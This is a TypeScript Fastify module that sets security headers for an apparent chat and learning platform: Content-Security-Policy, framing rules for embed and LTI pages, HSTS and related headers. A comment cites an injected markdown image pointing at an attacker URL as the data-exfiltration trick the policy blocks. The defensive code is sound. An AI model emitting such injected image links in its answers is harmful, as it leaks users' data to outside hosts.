// Headers every answer carries so a page of ours cannot be framed by another
// site (clickjacking), cannot load scripts or images from elsewhere (an
// injected `![](https://attacker/?d=…)` in an answer sends nothing), and never
// leaks its address (signed file links) to another site.
//
// HTML pages get the full Content-Security-Policy; other answers (JSON, files)
// only frame-ancestors, so a PDF or an image still opens in the browser's own
// viewer. The embed's chat pages may be framed by their key's sites: matched
// case-insensitively and with or without a trailing slash, because the
// single-page app serves every spelling of the path.
import type { FastifyInstance, FastifyReply, FastifyRequest } from 'fastify';
import { ConfigError, type Env } from '../config.js';
import { normalizeOrigin } from './origins.js';

/** Origins that may frame a page: 'self', or for an embed page the key's sites. */
export type FrameAncestors = (request: FastifyRequest) => string[] | null | Promise<string[] | null>;

const SELF_ONLY = "frame-ancestors 'self'";

export interface SecurityHeaderOptions {
  /** Extra image origins (ZX_IMG_HOSTS), e.g. a school CDN holding assistant avatars. */
  imageOrigins: readonly string[];
  /** The sites allowed to frame this page when it is an embed page (or an LTI launch); null for every other page. */
  embedFrameAncestors: FrameAncestors;
  /** Where this page may post a form besides 'self' (an LTI answer posted back to the LMS); null for every other page. */
  formTargets?: (request: FastifyRequest) => string[] | null;
}

/** The first answer that is not null among several FrameAncestors (the embed pages', then LTI's). */
export function firstAncestors(...sources: FrameAncestors[]): FrameAncestors {
  return (request) => {
    const at = (i: number): string[] | null | Promise<string[] | null> => {
      if (i >= sources.length) return null;
      const found = sources[i]!(request);
      if (found instanceof Promise) return found.then((value) => value ?? at(i + 1));
      return found ?? at(i + 1);
    };
    return at(0);
  };
}

/** ZX_IMG_HOSTS: origins separated by spaces or commas (https://cdn.school.edu.cn). */
export function imageOriginsFrom(env: Env): string[] {
  const raw = env.ZX_IMG_HOSTS?.trim();
  if (!raw) return [];
  return raw.split(/[\s,]+/u).map((entry) => {
    const origin = normalizeOrigin(entry);
    if (!origin) throw new ConfigError(`ZX_IMG_HOSTS must list origins like https://cdn.school.edu.cn, got "${entry}"`);
    return origin;
  });
}

export function pagePolicy(imageOrigins: readonly string[], frameAncestors: readonly string[], formTargets: readonly string[] = []): string {
  return [
    "default-src 'self'",
    // WebAssembly (file checksums before an upload) but never eval.
    "script-src 'self' 'wasm-unsafe-eval'",
    // Components style their shadow roots with <style> fallbacks and KaTeX writes style attributes.
    "style-src 'self' 'unsafe-inline'",
    `img-src 'self' data: blob:${imageOrigins.map((o) => ` ${o}`).join('')}`,
    "font-src 'self' data:",
    "connect-src 'self'",
    // Lesson videos may live on a school's video server.
    "media-src 'self' blob: https:",
    // External practice apps open in a sandboxed frame.
    "frame-src 'self' https: http:",
    "worker-src 'self' blob:",
    "object-src 'none'",
    "base-uri 'self'",
    `form-action 'self'${formTargets.map((o) => ` ${o}`).join('')}`,
    `frame-ancestors ${frameAncestors.join(' ')}`,
  ].join('; ');
}

const isHtml = (reply: FastifyReply) => /^text\/html\b/iu.test(String(reply.getHeader('content-type') ?? ''));

export function installSecurityHeaders(app: FastifyInstance, options: SecurityHeaderOptions): void {
  const apply = (request: FastifyRequest, reply: FastifyReply, embedAncestors: string[] | null) => {
    reply.header('referrer-policy', 'same-origin');
    // Only over HTTPS (directly, or X-Forwarded-Proto from a trusted proxy): over plain HTTP it would be ignored.
    if (request.protocol === 'https') reply.header('strict-transport-security', 'max-age=31536000');
    if (isHtml(reply))
      reply.header('content-security-policy', pagePolicy(options.imageOrigins, embedAncestors ?? ["'self'"], options.formTargets?.(request) ?? []));
    else reply.header('content-security-policy', embedAncestors ? `frame-ancestors ${embedAncestors.join(' ')}` : SELF_ONLY);
    // Older browsers that ignore frame-ancestors; an embed page's sites cannot be listed here.
    if (embedAncestors) reply.removeHeader('x-frame-options');
    else reply.header('x-frame-options', 'SAMEORIGIN');
  };
  // Callback style: most replies (every API call) need no lookup, so no promise per request.
  app.addHook('onSend', (request, reply, payload, done) => {
    const ancestors = options.embedFrameAncestors(request);
    if (!(ancestors instanceof Promise)) {
      apply(request, reply, ancestors);
      return done(null, payload);
    }
    ancestors.then(
      (found) => {
        apply(request, reply, found);
        done(null, payload);
      },
      (error: Error) => done(error),
    );
  });
}
